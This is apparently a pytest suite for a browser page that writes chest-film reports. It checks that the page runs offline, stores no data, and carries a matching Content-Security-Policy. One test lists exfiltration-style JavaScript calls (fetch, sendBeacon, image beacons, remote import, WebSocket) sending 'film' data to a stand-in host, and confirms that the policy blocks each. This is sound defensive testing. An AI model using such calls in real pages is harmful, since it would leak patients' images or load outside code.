"""Once it is loaded, the page asks for nothing: not for a film, not for an error, not without a server."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

import cxrscribe
from cxrscribe.cli.page_server import CONTENT_POLICY, HEADERS
from support.web_page import SOURCE, opened, served

if TYPE_CHECKING:
    from playwright.sync_api import Browser

FILMS = cxrscribe.demo_films()


def test_reports_are_written_without_any_server(browser: Browser, demo_page: Path, tmp_path: Path) -> None:
    """Of films, of what is none, and under other settings."""
    (tmp_path / "text.png").write_text("no film")
    with served(demo_page) as server, opened(browser, server.url) as page:
        page.add(FILMS[0])
        page.settled()
        asked = list(server.requests)
        server.stop()
        page.context.set_offline(True)
        page.add(*FILMS[1:3], tmp_path / "text.png")
        page.settled()
        page.page.get_by_text("Settings", exact=True).click()
        page.page.get_by_label("Beam width").fill("4")
        page.page.get_by_role("button", name="Apply to all films").click()
        page.settled()
        assert list(page.states().values()) == ["done", "done", "done", "failed"]
        assert all(page.reports()[film.name].endswith(".") for film in FILMS[:3])
        assert [row["settings"]["beam_width"] for row in page.rows()][:3] == [4, 4, 4]
        assert page.requests == []
        assert page.complaints == []
        assert server.requests == asked


def test_nothing_is_kept(browser: Browser, demo_page: Path) -> None:
    """Who uses the computer next finds no film, no text, and no program that an operator can't replace."""
    with served(demo_page) as server, opened(browser, server.url) as page:
        page.add(FILMS[0])
        page.settled()
        kept = page.page.evaluate(
            """async () => [
              localStorage.length, sessionStorage.length, document.cookie.length,
              (await indexedDB.databases()).length, (await caches.keys()).length,
              (await navigator.serviceWorker.getRegistrations()).length,
            ]"""
        )
        assert kept == [0, 0, 0, 0, 0, 0]
        page.page.reload()
        page.wait_until("ready")
        assert page.states() == {}


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://elsewhere.example/')",
        "navigator.sendBeacon('https://elsewhere.example/', 'film')",
        "new Image().src = 'https://elsewhere.example/a.png?film'",
        "import('https://elsewhere.example/a.js')",
        "new WebSocket('wss://elsewhere.example/')",
        "Function('return 1')()",
    ],
)
def test_the_policy_lets_nothing_out(browser: Browser, demo_page: Path, attempt: str) -> None:
    with served(demo_page) as server, opened(browser, server.url) as page:
        blocked = page.page.evaluate(
            f"""() => new Promise((done) => {{
              addEventListener('securitypolicyviolation', (event) => done(event.disposition));
              setTimeout(() => {{ {attempt}; }}, 0);
              setTimeout(() => done("nothing was blocked"), 20000);
            }})"""
        )
        assert blocked == "enforce"


def test_page_and_headers_have_one_policy() -> None:
    """The page has it where a host sets no header; only a header can forbid to frame the page."""
    html = (SOURCE / "index.html").read_text(encoding="utf-8")
    (of_page,) = re.findall(r'http-equiv="Content-Security-Policy"\s+content="([^"]+)"', html)
    assert of_page + "; frame-ancestors 'none'" == CONTENT_POLICY
    assert not re.search(r"<style|style=|<script>|\son\w+=|https?://", html)


def test_hosts_are_told_the_same_headers() -> None:
    """In the words of each server."""
    page = (SOURCE.parents[1] / "docs" / "browser.md").read_text(encoding="utf-8")
    assert page.count(f'"{CONTENT_POLICY}"') == 3
    for name, value in HEADERS.items():
        if name not in ("Content-Security-Policy", "Cache-Control", "Cross-Origin-Resource-Policy"):
            assert len(re.findall(rf'{name}(" value=)?:? ?"?{value}\b', page)) >= 4, name
